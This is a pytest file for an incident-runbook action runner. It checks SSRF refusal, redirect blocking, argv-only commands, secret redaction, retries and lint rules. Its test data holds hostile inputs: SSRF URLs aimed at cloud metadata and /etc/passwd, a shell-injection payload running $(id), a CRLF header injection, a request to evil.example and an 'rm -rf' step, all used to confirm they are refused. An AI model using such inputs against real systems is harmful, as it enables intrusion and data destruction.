"""Actions one by one: the outbound allow-list (SSRF forms, redirects), commands (argv only), retries, timeouts,
secrets kept out of results, parked steps, and lint. Local HTTP servers run in-process; no services."""

from __future__ import annotations

import asyncio
import time
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from actions.channels import Channels
from actions.command import CommandPolicy, CommandRefused, run_command
from actions.lint import LintEnv, lint
from actions.notify import Notifier
from actions.outbound import AllowList, OutboundHttp, Refused
from actions.runner import Runner, Services
from adapters.secrets import Secrets
from schemas.notification import WebhookChannel
from schemas.runbook import Step, StepStatus
from tests.http_target import Target

ROOT = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)


def services(
    allowed: list[str],
    commands: list[str] = (),
    environ: dict[str, str] | None = None,
    allow_private: bool = False,
    sleeps: list[float] | None = None,
    channels: dict[str, WebhookChannel] | None = None,
) -> Services:
    http = OutboundHttp(AllowList.parse(allowed, allow_private))
    secrets = Secrets(None, environ or {})

    async def sleep(seconds: float) -> None:
        if sleeps is not None:
            sleeps.append(seconds)

    return Services(
        http=http,
        commands=CommandPolicy.parse(list(commands)),
        secrets=secrets,
        notifier=Notifier(Channels(channels or {}, http, secrets, None)),
        sleep=sleep,
    )


def step(**spec: Any) -> Step:
    return Step.model_validate({"id": "s", **spec})


async def run(svc: Services, s: Step, ctx: dict[str, Any] | None = None, **kw: Any) -> Any:
    try:
        return await Runner(svc).run(
            s,
            ctx or {"labels": {}, "params": {}, "steps": {}, "incident": {"id": "inc-1"}},
            run_id="run-1",
            incident_id="inc-1",
            actor="runbook:t",
            started_at=kw.get("started_at", NOW),
            now=kw.get("now", NOW),
        )
    finally:
        await svc.http.close()


def go(coro: Callable[[], Awaitable[Any]]) -> Any:
    return asyncio.run(coro())


# -- outbound allow-list ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://127.1:8089/x",
        "http://2130706433:8089/x",
        "http://0x7f000001:8089/x",
        "http://0177.0.0.1:8089/x",
        "http://[::ffff:127.0.0.1]:8089/x",
        "http://[::1]:8089/x",
        "http://localhost:8089/x",
        "http://127.0.0.1:8090/x",
        "http://169.254.169.254/latest/meta-data",
        "file:///etc/passwd",
        "http://user:pw@127.0.0.1:8089/x",
    ],
)
def test_other_spellings_and_hosts_are_refused(url: str):
    allow = AllowList.parse(["127.0.0.1:8089", "hooks.example.com"])
    with pytest.raises(Refused):
        allow.check(url)


def test_listed_hosts_pass_and_a_bare_name_allows_80_and_443():
    allow = AllowList.parse(["127.0.0.1:8089", "Hooks.Example.com."])
    assert allow.check("http://127.0.0.1:8089/a?b=1") == ("127.0.0.1", 8089)
    assert allow.check("https://hooks.example.com/services/x") == ("hooks.example.com", 443)
    with pytest.raises(Refused):
        allow.check("https://hooks.example.com:8443/x")


def test_a_listed_name_that_resolves_to_loopback_is_refused():
    async def body() -> None:
        async with Target() as target:
            svc = services([f"localhost:{target.port}"])
            outcome = await run(svc, step(http={"method": "GET", "url": f"http://localhost:{target.port}/x"}))
            assert outcome.status is StepStatus.failed and outcome.refused
            assert "loopback, private or link-local" in outcome.error
            assert target.hits == {}
            allowed = services([f"localhost:{target.port}"], allow_private=True)
            assert (
                await run(allowed, step(http={"method": "GET", "url": f"http://localhost:{target.port}/x"}))
            ).status is StepStatus.succeeded

    go(body)


def test_redirects_off_the_list_are_refused():
    async def body() -> None:
        async with Target() as target, Target() as other:
            target.redirect = {
                "/to-other": f"{other.base}/stolen",
                "/to-metadata": "http://169.254.169.254/latest/",
                "/to-alias": f"http://localhost:{target.port}/x",
                "/fine": "/landing",
            }
            svc_hosts = [f"127.0.0.1:{target.port}"]
            for path in ("/to-other", "/to-metadata", "/to-alias"):
                outcome = await run(services(svc_hosts), step(http={"method": "GET", "url": target.base + path}))
                assert outcome.status is StepStatus.failed and outcome.refused, path
            assert other.hits == {}
            ok = await run(services(svc_hosts), step(http={"method": "GET", "url": target.base + "/fine"}))
            assert ok.status is StepStatus.succeeded and ok.output["body"]["path"] == "/landing"

    go(body)


# -- http steps: retries, timeouts, secrets -----------------------------------------------------------------


def test_retries_back_off_on_5xx_then_succeed():
    async def body() -> None:
        async with Target() as target:
            target.fail["/restart"] = [500, 503]
            sleeps: list[float] = []
            s = step(
                http={"url": target.base + "/restart", "json": {"svc": "{{ labels.service }}"}},
                retries={"attempts": 3, "backoff": "1s"},
            )
            outcome = await run(
                services([f"127.0.0.1:{target.port}"], sleeps=sleeps),
                s,
                {"labels": {"service": "checkout"}, "params": {}, "steps": {}},
            )
            assert outcome.status is StepStatus.succeeded and outcome.attempts == 3
            assert target.hits["/restart"] == 3 and sleeps == [1.0, 2.0]
            assert target.bodies[-1] == {"svc": "checkout"}

    go(body)


def test_a_4xx_is_not_retried_and_retries_give_up():
    async def body() -> None:
        async with Target() as target:
            target.fail["/bad"] = [404, 404, 404]
            target.fail["/down"] = [500, 500, 500, 500]
            hosts = [f"127.0.0.1:{target.port}"]
            bad = await run(services(hosts), step(http={"url": target.base + "/bad"}, retries={"attempts": 3}))
            assert bad.status is StepStatus.failed and bad.attempts == 1 and target.hits["/bad"] == 1
            down = await run(services(hosts), step(http={"url": target.base + "/down"}, retries={"attempts": 2}))
            assert down.status is StepStatus.failed and down.attempts == 3 and "HTTP 500" in down.error

    go(body)


def test_the_step_timeout_bounds_each_attempt():
    async def body() -> None:
        async with Target() as target:
            target.stall = 2.0
            outcome = await run(
                services([f"127.0.0.1:{target.port}"]),
                step(http={"url": target.base + "/slow"}, timeout=1, retries={"attempts": 1}),
            )
            assert (
                outcome.status is StepStatus.failed and outcome.error == "timed out after 1s" and outcome.attempts == 2
            )

    go(body)


def test_secrets_reach_the_target_but_never_the_result():
    async def body() -> None:
        async with Target() as target:
            svc = services([f"127.0.0.1:{target.port}"], environ={"FIREBREAK_SECRET_API_TOKEN": "tok-123456"})
            s = step(
                http={
                    "url": target.base + "/x",
                    "headers": {"Authorization": {"secret": "API_TOKEN", "format": "Bearer {}"}},
                }
            )
            outcome = await run(svc, s)
            assert target.headers[-1]["Authorization"] == "Bearer tok-123456"
            assert outcome.output["body"]["auth"] == "Bearer ***"
            missing = await run(services([f"127.0.0.1:{target.port}"]), s)
            assert missing.status is StepStatus.failed and "FIREBREAK_SECRET_API_TOKEN" in missing.error

    go(body)


def test_line_breaks_never_reach_a_header():
    async def body() -> None:
        async with Target() as target:
            s = step(http={"url": target.base + "/x", "headers": {"X-Service": "{{ labels.service }}"}})
            outcome = await run(
                services([f"127.0.0.1:{target.port}"]),
                s,
                {"labels": {"service": "a\r\nX-Admin: 1"}, "params": {}, "steps": {}},
            )
            assert outcome.status is StepStatus.failed and "line break" in outcome.error and target.hits == {}

    go(body)


# -- commands ---------------------------------------------------------------------------------------------


def test_shell_metacharacters_are_inert_argv_items(tmp_path: Path):
    marker = tmp_path / "pwned"
    payload = f"; touch {marker} && echo $(id) `id` | cat > {marker} & --output={marker}"

    async def body() -> Any:
        s = step(command={"argv": ["printf", "%s\\n", "{{ labels.service }}"]})
        return await run(
            services([], commands=["printf"]), s, {"labels": {"service": payload}, "params": {}, "steps": {}}
        )

    outcome = go(body)
    assert outcome.status is StepStatus.succeeded
    assert outcome.output["stdout"] == payload + "\n"
    assert not marker.exists()


def test_programs_off_the_list_are_refused():
    policy = CommandPolicy.parse(["df"])
    assert policy.resolve("df").endswith("/df")
    with pytest.raises(CommandRefused, match="not on the allow-list"):
        policy.resolve("rm")
    with pytest.raises(CommandRefused, match="not on the allow-list"):
        policy.resolve("/bin/sh")


def test_the_worker_environment_is_not_inherited(monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setenv("FIREBREAK_SECRET_LEAK", "should-not-be-seen")
    result = asyncio.run(
        run_command("/usr/bin/env", [], env={"ONLY": "this"}, cwd=None, timeout=5, max_output_bytes=4096)
    )
    assert "should-not-be-seen" not in result.stdout
    assert sorted(line.split("=")[0] for line in result.stdout.splitlines()) == ["LANG", "ONLY", "PATH"]


def test_a_command_past_its_timeout_is_killed_with_its_children():
    started = time.monotonic()
    result = asyncio.run(
        run_command("/bin/sh", ["-c", "sleep 30 & sleep 30"], env={}, cwd=None, timeout=0.5, max_output_bytes=4096)
    )
    assert result.timed_out and result.exit_code is None
    assert time.monotonic() - started < 10


def test_output_is_capped():
    result = asyncio.run(
        run_command("/usr/bin/head", ["-c", "100000", "/dev/zero"], env={}, cwd=None, timeout=5, max_output_bytes=1000)
    )
    assert len(result.stdout) == 1000 and result.truncated


# -- parked steps: wait and approval ------------------------------------------------------------------------


def test_wait_parks_until_its_time():
    s = step(wait={"for": "30s"})
    early = go(lambda: run(services([]), s, started_at=NOW, now=NOW + timedelta(seconds=10)))
    assert early.status is StepStatus.waiting and early.wake_at == NOW + timedelta(seconds=30)
    done = go(lambda: run(services([]), s, started_at=NOW, now=NOW + timedelta(seconds=30)))
    assert done.status is StepStatus.succeeded


def _with_decision(decision: dict[str, Any] | None) -> Services:
    svc = services([])

    async def approval(run_id: str, step_id: str) -> dict[str, Any] | None:
        return decision

    svc.approval = approval
    return svc


def test_approval_waits_then_follows_the_decision_or_the_default():
    s = step(approval={"prompt": "go?", "timeout": "10m", "default": "reject"})
    waiting = go(lambda: run(_with_decision(None), s, now=NOW + timedelta(minutes=1)))
    assert waiting.status is StepStatus.waiting and waiting.wake_at == NOW + timedelta(minutes=10)
    approved = go(lambda: run(_with_decision({"decision": "approve", "by": "ana"}), s, now=NOW + timedelta(minutes=1)))
    assert approved.status is StepStatus.succeeded and approved.output["by"] == "ana"
    rejected = go(lambda: run(_with_decision({"decision": "reject", "by": "bo"}), s, now=NOW + timedelta(minutes=1)))
    assert rejected.status is StepStatus.failed and rejected.error == "rejected by bo"
    timed_out = go(lambda: run(_with_decision(None), s, now=NOW + timedelta(minutes=10)))
    assert timed_out.status is StepStatus.failed and timed_out.output["by"] == "timeout"


# -- lint ---------------------------------------------------------------------------------------------------


def lint_env(**kw: Any) -> LintEnv:
    return LintEnv(
        AllowList.parse(kw.get("hosts", ["127.0.0.1:8089"])),
        CommandPolicy.parse(kw.get("commands", ["df", "find"])),
        Secrets(None, kw.get("environ", {"FIREBREAK_SECRET_DEPLOY_API_TOKEN": "x"})),
        frozenset(kw.get("channels", ["oncall", "chat"])),
    )


def test_the_shipped_runbooks_lint_clean():
    assert [str(f) for f in lint([ROOT / "runbooks"], lint_env())] == []


def test_lint_finds_each_problem_with_its_line(tmp_path: Path):
    (tmp_path / "bad.yaml").write_text("""name: bad
description: d
owner: o
on: [opened]
steps:
  - id: first
    http:
      url: "http://evil.example/{{ labels.x }}"
      headers: {Authorization: {secret: NOPE}}
  - id: second
    annotate: {text: "{{ steps.third.output }} {{ params.missing }} {{ lables.x }}"}
  - id: third
    command: {argv: [rm, -rf, "{{ labels.path }}"]}
  - id: fourth
    when: "1 == 2"
    notify: {channel: pager, message: "{{ incident.id"}
""")
    found = {(f.line, f.level, f.message.split(";")[0].split(":")[0]) for f in lint([tmp_path], lint_env())}
    messages = "\n".join(str(f) for f in lint([tmp_path], lint_env()))
    assert "bad.yaml:9: error: secret NOPE is not set" in messages
    assert "bad.yaml:8: error: host evil.example:80 is not on the allow-list" in messages
    assert "bad.yaml:11: error: reads steps.third, which is not an earlier step" in messages
    assert "bad.yaml:11: error: reads params.missing, which the runbook does not declare" in messages
    assert "bad.yaml:11: error: unknown name lables" in messages
    assert "bad.yaml:13: error: program 'rm'" in messages
    assert "bad.yaml:13: warning: a templated argument with no `--`" in messages
    assert "bad.yaml:15: error: step fourth can never run" in messages
    assert "bad.yaml:16: error: channel 'pager' is not in the notifications file" in messages
    assert "bad.yaml:16: error: template does not compile" in messages
    assert len(found) >= 10


def test_a_nul_in_a_label_never_reaches_a_program_or_a_header():
    with pytest.raises(CommandRefused, match="NUL"):
        asyncio.run(run_command("/usr/bin/printf", ["%s", "a\x00b"], env={}, cwd=None, timeout=5, max_output_bytes=100))

    async def body() -> None:
        async with Target() as target:
            s = step(http={"url": target.base + "/x", "headers": {"X-Service": "{{ labels.service }}"}})
            outcome = await run(
                services([f"127.0.0.1:{target.port}"]), s, {"labels": {"service": "a\x00b"}, "params": {}, "steps": {}}
            )
            assert outcome.status is StepStatus.failed and outcome.refused and target.hits == {}

    go(body)
